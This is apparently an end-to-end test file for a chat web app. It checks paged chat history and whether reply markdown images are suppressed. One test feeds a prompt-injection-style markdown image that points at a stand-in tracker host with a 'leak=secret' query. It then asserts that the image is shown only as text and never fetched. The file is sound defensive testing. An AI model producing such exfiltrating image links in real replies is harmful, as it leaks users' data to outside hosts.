import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { nextPhone, registerViaApi, signInTicket } from './support/api';
import { e2eServer } from './support/server';
import { hasHorizontalOverflow, launchBrowser, newPage, screenshot, type ViewportName } from './support/browser';

/**
 * A long chat read page by page (session-detail is paged: the newest messages first), and a reply's markdown image
 * shown as text, never fetched (issue 12 items 4 and 12). The server runs the built-in offline provider, which quotes
 * the question in its reply: a question carrying markdown puts that markdown into the reply, as a prompt injection
 * would.
 */
const baseUrl = e2eServer();

async function api(path: string, token: string, body?: unknown) {
  const res = await fetch(`${baseUrl}/api${path}`, {
    method: body ? 'POST' : 'GET',
    headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  const json = (await res.json()) as Record<string, unknown>;
  if (!res.ok) throw new Error(`${path} ${res.status}: ${String(json.message)}`);
  return json;
}

const texts = (page: Page) => page.locator('.chat-msg').allTextContents();

describe.skipIf(Boolean(inject('skipReason')))('chat history pages and reply images', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  for (const viewport of ['desktop', 'mobile'] as ViewportName[]) {
    const px = viewport === 'mobile' ? 375 : 1280;

    it(`shows the newest 50 messages of a long chat and loads the earlier ones on request at ${px} px`, async () => {
      const { token } = await registerViaApi(baseUrl, nextPhone(), '老用户');
      const chat = await api('/chat/chat-new', token, { type: 'career', query: '', key: crypto.randomUUID() });
      for (let i = 1; i <= 60; i++) {
        await api('/cache/save-message', token, {
          session_id: chat.session_id,
          role: i % 2 ? 'user' : 'assistant',
          content: `第${i}条消息`,
        });
      }
      const page = await newPage(browser, baseUrl, viewport);
      await page.goto(`/chat/career?token=${await signInTicket(token)}`);
      await page.getByText('第60条消息').waitFor();
      const first = await texts(page);
      expect(first).toHaveLength(50);
      expect(first[0]).toContain('第11条消息');
      const older = page.getByRole('button', { name: '加载更早的消息' });
      await older.waitFor();
      await older.scrollIntoViewIfNeeded();
      await screenshot(page, `chat-${px}-history-older`, false);

      await older.click();
      await page.getByText('第1条消息', { exact: true }).waitFor();
      const all = await texts(page);
      expect(all).toHaveLength(60);
      expect(all[0]).toContain('第1条消息');
      expect(all.at(-1)).toContain('第60条消息');
      // The whole chat is on screen: nothing more to ask for.
      expect(await older.count()).toBe(0);
      await screenshot(page, `chat-${px}-history-all`, false);
      expect(await hasHorizontalOverflow(page)).toBe(false);
    });

    it(`shows a reply's markdown image as text and never loads it from another host at ${px} px`, async () => {
      const { token } = await registerViaApi(baseUrl, nextPhone(), '小图');
      const page = await newPage(browser, baseUrl, viewport);
      const elsewhere: string[] = [];
      page.on('request', (r) => {
        if (!r.url().startsWith(baseUrl) && !r.url().startsWith('data:')) elsewhere.push(r.url());
      });
      await page.goto(`/chat/general?token=${await signInTicket(token)}`);
      await page.locator('.chat-welcome').waitFor();

      const input = page.getByLabel('输入您的问题');
      await input.fill('看看 ![访问统计](https://tracker.example/pixel.png?leak=secret)');
      await input.press('Enter');
      await page.waitForFunction(
        () => {
          const all = document.querySelectorAll('[data-testid="message-assistant"]');
          return all[all.length - 1]?.getAttribute('data-status') === 'done';
        },
        undefined,
        { timeout: 20_000 },
      );
      const reply = page.getByTestId('message-assistant').last();
      expect(await reply.textContent()).toContain('[图片：访问统计]');
      expect(await reply.locator('img').count()).toBe(0);
      await screenshot(page, `chat-${px}-image-removed`, false);
      expect(elsewhere).toEqual([]);
    });
  }
});
